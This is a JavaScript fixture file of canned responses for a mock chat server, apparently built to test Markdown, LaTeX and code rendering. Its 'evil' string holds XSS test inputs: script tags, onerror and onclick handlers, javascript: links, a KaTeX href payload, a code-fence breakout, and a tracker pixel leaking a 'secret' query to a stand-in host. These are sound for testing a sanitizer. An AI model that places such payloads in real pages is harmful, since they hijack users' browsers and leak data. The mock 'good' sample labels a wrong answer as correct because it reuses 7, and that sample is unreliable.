/* texts.mjs - what the mock server says. */
export const short = 'The answer is **12**: three rows of four make $3 \\times 4 = 12$.';

export const code = `Here is a loop that sums a slice, first in Python:

\`\`\`python
def total(values: list[float]) -> float:
    """Kahan summation: the lost low bits are carried along."""
    s, c = 0.0, 0.0
    for v in values:
        y = v - c
        t = s + y
        c = (t - s) - y
        s = t
    return s
\`\`\`

and then in C:

\`\`\`c
float total(const float *v, size_t n)
{
    float s = 0.0f, c = 0.0f; /* sum, compensation */
    for (size_t i = 0; i < n; i++) {
        float y = v[i] - c, t = s + y;
        c = (t - s) - y;
        s = t;
    }
    return s;
}
\`\`\`

Both need about \`4n\` additions. See [the paper](https://example.org/kahan) for the bound.
`;

export const table = `| kernel | bytes read | time |
|---|---:|---:|
| plain | 4096 | 1.9 µs |
| AVX2 | 4096 | 0.31 µs |
| AVX-512 | 4096 | 0.22 µs |

- one
  - nested

    with a paragraph
- two

1. first

2. second

> A quotation with *emphasis* and \`code\`.
`;

export const arabic = `الجواب هو **12**، لأن ثلاثة صفوف في كل منها أربعة عناصر تعطي $3 \\times 4 = 12$.

- أولًا: عدّ الصفوف.
- ثانيًا: اضرب في عدد العناصر.

\`\`\`python
print(3 * 4)
\`\`\`
`;

export const evil = `<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) ![pixel](https://tracker.example/p.png?q=secret) [ok](https://example.org/a)

<iframe src="https://example.org"></iframe> <a href="https://example.org" onclick="window.hacked=4">x</a>

$\\href{javascript:window.hacked=5}{x}$ and $\\frac{1}{$

\`\`\`html"><img src=x onerror=window.hacked=6>
<b>shown</b>
\`\`\`
`;

export const readme = `Let $q = \\tfrac{1}{2}$. The sum of a geometric series is found by shifting it against itself.

## Derivation

Write the first $n$ terms and multiply by $q$:

$$
S_n = \\sum_{k=0}^{n-1} q^k, \\qquad q\\,S_n = \\sum_{k=1}^{n} q^k .
$$

Subtracting leaves only the two ends,

\\[
(1-q)\\,S_n = 1 - q^n \\quad\\Longrightarrow\\quad S_n = \\frac{1-q^n}{1-q} .
\\]

Since $|q| < 1$ we have $q^n \\to 0$, and therefore

\\[
\\boxed{\\,\\sum_{k=0}^{\\infty} \\left(\\tfrac{1}{2}\\right)^{k} = \\frac{1}{1-\\frac{1}{2}} = 2\\,}
\\]

| terms $n$ | sum $S_n$ | distance to 2 |
|---:|---:|---:|
| 1 | 1 | 1 |
| 4 | 1.875 | 0.125 |
| 10 | 1.998 | 0.002 |

A check in three lines:

\`\`\`python
from fractions import Fraction
s = sum(Fraction(1, 2) ** k for k in range(10))
assert 2 - s == Fraction(1, 2) ** 9
\`\`\`
`;

const THOUGHTS = [
  'Let me write down what is given. There are rows and columns, so a product is likely.',
  'If $n$ is even then $n = 2k$ and $n^2 = 4k^2$, which is divisible by $4$.',
  'Wait, I should check the boundary: for $k = 0$ the sum has one term, so the formula must give $1$.',
  'Check: \\(\\sum_{i=1}^{3} i = 6\\), and $\\frac{3 \\cdot 4}{2} = 6$. Good.',
  'So the two ways agree, and I can answer.',
];

export function thoughts(n) {
  return Array.from({ length: n }, (_, i) => THOUGHTS[i % THOUGHTS.length]).join('\n\n');
}

const PARTS = [
  (i) => `### Step ${i}\n\nConsider the integral over the interval $[0, ${i}]$; since $f_{${i}}$ is continuous we may write`,
  (i) => `$$\n\\int_0^{${i}} x^{${(i % 7) + 1}}\\,dx = \\frac{${i}^{${(i % 7) + 2}}}{${(i % 7) + 2}}, \\qquad \\sum_{k=1}^{${i}} k = \\frac{${i}(${i}+1)}{2}\n$$`,
  (i) => `By induction \\(a_{${i}+1} = 2a_{${i}} + 1\\), so that $a_{${i}} = 2^{${i}} - 1$ for every $n \\ge ${i}$; the rest of the argument does **not** depend on the choice of $\\varepsilon_{${i}} > 0$.`,
  (i) => `\\[\n\\begin{pmatrix} ${i} & 1 \\\\ 0 & ${i} \\end{pmatrix}^{n} = \\begin{pmatrix} ${i}^n & n\\,${i}^{n-1} \\\\ 0 & ${i}^n \\end{pmatrix}\n\\]`,
  (i) => `| number $k$ | square $k^2$ | cube $k^3$ |\n|---|---|---|\n| ${i} | ${i * i} | ${i ** 3} |\n| ${i + 1} | ${(i + 1) ** 2} | ${(i + 1) ** 3} |`,
  (i) => `1. First, $x_{${i}} \\le y_{${i}}$.\n2. Then $\\sqrt{x_{${i}}^2 + y_{${i}}^2} \\le x_{${i}} + y_{${i}}$.\n3. Hence the claim.`,
  (i) => `\`\`\`python\nassert sum(range(${i} + 1)) == ${i} * (${i} + 1) // 2\n\`\`\``,
];

/** About n tokens (3.6 letters each) of mathematics. */
export function mathematics(n) {
  const out = [];
  for (let i = 1, size = 0; size < n * 3.6; i++) {
    const p = PARTS[(i - 1) % PARTS.length](i);
    out.push(p);
    size += p.length + 2;
  }
  return out.join('\n\n') + '\n\nTherefore $\\boxed{42}$.\n';
}

function noise(step, k) {
  const x = Math.sin(step * 12.9898 + k * 78.233) * 43758.5453;
  return x - Math.floor(x) - 0.5;
}

export function metrics(step) {
  const s = 1 / (1 + Math.exp(-(step - 130) / 45));
  return {
    step, reward: 0.06 + 0.78 * s + 0.08 * noise(step, 1), loss: 0.02 + 0.05 * Math.exp(-step / 120) + 0.012 * noise(step, 2),
    length: 140 + 320 * s + 30 * noise(step, 3), kl: 0.001 + 0.018 * s + 0.003 * noise(step, 4),
    entropy: 1.1 - 0.5 * s + 0.05 * noise(step, 5), grad_norm: 0.8 + 0.35 * noise(step, 6), lr: 1e-5 * Math.min(1, step / 40), tokens_per_second: 5200 + 400 * noise(step, 7),
  };
}

export function sample(step) {
  const good = step > 120;
  return {
    step, prompt: 'Using the numbers 3, 7, 8 and 25 once each, write an expression that makes 82.', reward: good ? 1 : 0, gold: '82',
    reasoning: good ? 'I need $82$. $25 \\times 3 = 75$, and $82 - 75 = 7$. That leaves the $8$: not needed?\n\nEvery number must be used once. $25 \\times 3 + 7 = 82$ uses three. With $8$: $(25 - 8) \\times 3 = 51$; $51 + 7 = 58$. No.\n\nWait: $8 \\times 7 = 56$, $56 + 25 = 81$. Close. $25 + 7 = 32$, $8 \\cdot 3 = 24$ …' : 'The numbers 3 7 8 25. So 25 25 25. Maybe 82 is 82.',
    answer: good ? '$$25 \\times 3 + 7 \\times (8 - 7) = 82$$' : '82 = 25 + 25 + 8',
  };
}

export function usage() {
  const rows = [];
  for (let d = 29; d >= 0; d--) {
    const day = new Date(Date.now() - d * 86_400_000).toISOString().slice(0, 10);
    const k = Math.max(0, 0.6 + noise(d, 9)) * (1 + (d % 7 < 2 ? 0 : 1));
    rows.push({ group: day, requests: Math.round(20 * k), prompt_cache_hit_tokens: Math.round(21000 * k), prompt_cache_miss_tokens: Math.round(9000 * k), completion_tokens: Math.round(26000 * k), reasoning_tokens: Math.round(17000 * k), cost: (0.064 * k).toFixed(4), currency: 'USD', energy_wh: 3.1 * k, elsewhere: { 'deepseek-reasoner': (0.014 * k).toFixed(4), 'gpt-5': (0.27 * k).toFixed(4) } });
  }
  return { group: 'day', energy_source: 'estimate', rows };
}

export const thinkGeometric = `The series is $1 + \\tfrac12 + \\tfrac14 + \\dots$, so $q = \\tfrac12$ and the first term is $1$.

A picture would do: each term halves the distance to $2$. But a derivation is better. Multiply the partial sum by $q$ and subtract.

Wait, does the limit exist? $|q| < 1$, so $q^n \\to 0$. Yes. For $n = 10$ the formula gives $2 - 2^{-9} \\approx 1.998$. Good.
`;
